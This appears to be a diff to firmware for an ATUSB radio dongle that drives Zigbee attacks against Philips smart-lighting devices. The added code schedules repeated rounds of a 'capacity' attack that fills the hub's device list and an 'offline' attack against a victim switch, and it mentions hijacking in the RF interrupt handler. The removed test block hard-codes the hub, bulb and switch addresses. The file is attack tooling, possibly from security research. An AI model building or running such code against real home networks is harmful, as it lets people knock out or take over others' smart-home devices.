@@ -11,14 +11,54 @@
  */
 
 #include "attack.h"
+#include "sched.h"
+#include "target.h"
+
+
+#define	ROUND_PAUSE_US	3000000	/* between attack rounds */
+
+
+extern uint8_t attack_no;
+extern ieee802154_addr hub_addr;
+extern ieee802154_addr victim_addr;
+
+
+static void attack_round(void *user);
+
+static struct task round_task = { .fn = attack_round };
+
+
+static void round_done(uint8_t res)
+{
+	led(0);
+	task_in(&round_task, ROUND_PAUSE_US);
+}
+
+
+static void attack_round(void *user)
+{
+	switch (attack_no) {
+	case ATUSB_ATTACK_CAPACITY:
+		// Fill up ZED list
+		led(1);
+		capacity_attack_start(&hub_addr, 0x15000000, 2, round_done);
+		break;
+	case ATUSB_ATTACK_OFFLINE:
+		led(1);
+		offline_attack_start(&hub_addr, &victim_addr, 0x15000000,
+		    round_done);
+		break;
+	default:
+		/* hijacking happens in the RF interrupt */
+		break;
+	}
+}
 
-ieee802154_addr hub_addr = {};
-ieee802154_addr bulb_addr = {};
-ieee802154_addr victim_addr = {};
-uint8_t attack_no = 0;
 
 int main(void)
 {
+	uint8_t running;
+
 	board_init();
 	board_app_init();
 	reset_rf();
@@ -29,59 +69,29 @@ int main(void)
 
 	usb_init();
 	ep0_init();
-#ifdef ATUSB
 	timer_init();
 
+#ifdef ATUSB
 	/* move interrupt vectors to 0 */
 	MCUCR = 1 << IVCE;
 	MCUCR = 0;
 #endif
 
 	sei();
-	_delay_ms(3000);
-
-	/** TEST FIELD **/
-	// Here we let dst_device = hub, src_device = sensor to test our API
-	
-	hub_addr.pan = 0x7051;
-	hub_addr.epan = PHILIPS_EPAN_ID;
-	hub_addr.short_addr = 0x0001;
-	hub_addr.long_addr = PHILIPS_BRIDGE_MAC_ADDR;
-	hub_addr.device_type = 0;
-	hub_addr.polling_type = 0;
-	hub_addr.coordinator_flag = 1;
-	hub_addr.beacon_update_id = 2;
-
-	bulb_addr = hub_addr;
-	bulb_addr.short_addr = 0x0005;
-	bulb_addr.long_addr = PHILIPS_BULB_MAC_ADDR;
-	bulb_addr.device_type = 1;
-	bulb_addr.polling_type = 0;
-
-	victim_addr = hub_addr;
-	victim_addr.short_addr = 0x35c7;
-	victim_addr.long_addr = PHILIPS_SWITCH_MAC_ADDR;
-	victim_addr.polling_type = 2;
-	victim_addr.device_type = 2;
-	victim_addr.rx_when_idle = 1;
-
-	/** END OF TEST FIELD **/
-	attack_no = 1;
-
-	while (1)
-	{
-		if( attack_no == 0xff)
-		{
-			sleep_mode();
-		}
-		else if (attack_no == 1)
-		{
-			// Fill up ZED list
-			led(1);
-			collision_attack(&hub_addr, 0x15000000, 2);
-			_delay_ms(3000);
+
+	target_init();
+	running = attack_no;
+	task_in(&round_task, ROUND_PAUSE_US);
+
+	while (1) {
+		/* ATUSB_ATTACK selected another attack */
+		if (attack_no != running) {
+			running = attack_no;
+			attack_stop();
 			led(0);
+			task_in(&round_task, 0);
 		}
-		
+		target_poll();
+		sched_poll();
 	}
 }